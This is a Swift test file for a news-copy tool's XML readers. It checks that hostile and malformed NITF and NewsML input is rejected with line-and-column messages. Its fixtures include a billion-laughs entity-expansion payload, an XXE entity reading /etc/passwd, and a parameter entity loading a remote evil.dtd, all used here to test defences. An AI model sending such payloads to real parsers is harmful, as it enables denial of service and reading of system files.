import Testing
import CopydeskCore
import CopydeskFormats
import Foundation

/// Hostile and broken XML: rejected quickly, with a message naming the problem and its position.
@Suite struct XMLSafetyTests {
    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE nitf [
         <!ENTITY lol "lol">
         <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
         <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
         <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
         <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
         <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
         <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
         <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
         <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>
        """

    static let xxe = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE newsItem [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x" version="1">
          <contentSet><inlineXML><nitf><body><body.content><p>&xxe;</p></body.content></body></nitf></inlineXML></contentSet>
        </newsItem>
        """

    @Test func billionLaughsIsRejectedQuickly() throws {
        let source = SourceFile(path: "laughs.xml", text: Self.billionLaughs)
        // Still claimed by the NITF reader, so auto-detection reports the attack instead of
        // reading the file as plain text.
        #expect(NITFReader.confidence(for: source) == 95)
        // Refused at the declaration, before anything could expand (how long that takes is the
        // benchmarks' business, not a test's).
        let message = XMLFixtures.inputError { _ = try NITFReader.read(source) }
        #expect(message == "3:2: DOCTYPE with entity declarations is not accepted (XML entity expansion): 'lol' is declared here")
        let registry = ReaderRegistry([PlainTextReader.self, NITFReader.self, NewsMLG2Reader.self])
        #expect(throws: CopydeskError.self) { try registry.read(source) }
    }

    @Test func externalEntitiesAreRejected() {
        let source = SourceFile(path: "xxe.xml", text: Self.xxe)
        #expect(NewsMLG2Reader.confidence(for: source) == 95)
        let message = XMLFixtures.inputError { _ = try NewsMLG2Reader.read(source) }
        #expect(message == "2:22: DOCTYPE declaring the external entity 'xxe' (\"file:///etc/passwd\") is not accepted (XML external entity, XXE); Copydesk never reads files or the network an XML file names")

        let parameter = SourceFile(path: "pe.xml", text: "<!DOCTYPE nitf [\n<!ENTITY % remote SYSTEM \"http://example.com/evil.dtd\">\n%remote;\n]>\n<nitf/>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(parameter) }?.hasPrefix("2:1: DOCTYPE declaring the external entity 'remote'") == true)
        let reference = SourceFile(path: "pe.xml", text: "<!DOCTYPE nitf [ %remote; ]>\n<nitf/>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(reference) } == "1:18: parameter entity reference in the DOCTYPE is not accepted (XML entity expansion)")
    }

    @Test func aDoctypeWithoutEntitiesIsAccepted() throws {
        let source = SourceFile(path: "dtd.xml", text: """
            <!DOCTYPE nitf [
              <!-- local additions -->
              <!ELEMENT extra (#PCDATA)>
              <!ATTLIST nitf note CDATA "a > b">
            ]>
            <nitf><body><body.content><p>Text.</p></body.content></body></nitf>
            """)
        #expect(try NITFReader.read(source).paragraphs.map(\.string) == ["Text."])
    }

    @Test func undeclaredEntitiesAreRejected() {
        let source = SourceFile(path: "nbsp.xml", text: "<nitf>\n  <body><body.content><p>40&nbsp;million</p></body.content></body>\n</nitf>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(source) }
            == "2:28: undeclared entity '&nbsp;' (only &lt; &gt; &amp; &quot; &apos; and character references such as &#160; are accepted)")
        let bare = SourceFile(path: "amp.xml", text: "<nitf><p>AT&T</p></nitf>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(bare) } == "1:12: '&' that does not start an entity or character reference (write '&amp;')")
        let control = SourceFile(path: "nul.xml", text: "<nitf><p>&#0;</p></nitf>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(control) } == "1:10: character reference '&#0;' is not an allowed XML character")
    }

    @Test func malformedXMLGivesLineAndColumn() {
        func error(_ text: String) -> String? {
            XMLFixtures.inputError { _ = try NITFReader.read(SourceFile(path: "bad.xml", text: text)) }
        }
        #expect(error("<nitf>\n  <body>\n    <hedline><hl1>Title</hedline>\n") == "3:24: mismatched end tag </hedline>: expected </hl1> (opened at 3:14)")
        #expect(error("<nitf>\n  <body>\n    <p class=\"lede") == "3:14: end of file inside an attribute value")
        #expect(error("<nitf>\n  <p>Text</p>\n  <p") == "3:5: end of file inside the start tag <p>")
        #expect(error("<nitf>\n  <p>Text</p>\n") == "3:1: end of file inside <nitf> (opened at 1:1)")
        #expect(error("<nitf><p>Text</p></nitf>\n<nitf/>") == "2:1: a second root element after the end of the root element")
        #expect(error("<nitf><p a=1>Text</p></nitf>") == "1:12: attribute value must be quoted")
        #expect(error("<nitf><p a=\"1\" a=\"2\">Text</p></nitf>") == "1:16: duplicate attribute 'a'")
        #expect(error("<nitf><x:p>Text</x:p></nitf>") == "1:8: undeclared namespace prefix 'x' in 'x:p'")
        #expect(error("<nitf></p></nitf>") == "1:7: mismatched end tag </p>: expected </nitf> (opened at 1:1)")
        #expect(error("Just some text") == "1:1: text before the root element")
        #expect(error("") == "1:1: no root element")
        #expect(error("<nitf><!-- never closed </nitf>") == "1:7: end of file inside a comment")
    }

    @Test func nestingAndSizeLimits() {
        let deep = String(repeating: "<block>", count: 300) + String(repeating: "</block>", count: 300)
        let source = SourceFile(path: "deep.xml", text: "<nitf>" + deep + "</nitf>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(source) } == "1:1792: elements nested deeper than 256 levels")

        var small = XMLLimits()
        small.maxBytes = 64
        let big = SourceFile(path: "big.xml", text: "<nitf><body><body.content><p>" + String(repeating: "word ", count: 40) + "</p></body.content></body></nitf>")
        #expect(XMLFixtures.inputError { _ = try NITFReader.read(big, limits: small) } == "XML input is \(big.byteCount) bytes, over the 64 bytes limit for XML files")
    }

    @Test func aLargeStoryReadsWhole() throws {
        // Speed is the benchmarks' business (Benchmarks/); here only that nothing is lost or cut.
        var text = "<nitf><body><body.content>\n"
        let paragraph = "  <p>The ministry said the tax would raise <em>40 million</em> euros &amp; more\n    a year, officials said on Tuesday.</p>\n"
        for _ in 0..<20_000 { text += paragraph }
        text += "</body.content></body></nitf>\n"
        let story = try NITFReader.read(SourceFile(path: "big.xml", text: text))
        #expect(story.paragraphs.count == 20_000)
        #expect(story.paragraphs.last?.string == "The ministry said the tax would raise 40 million euros & more a year, officials said on Tuesday.")
    }
}
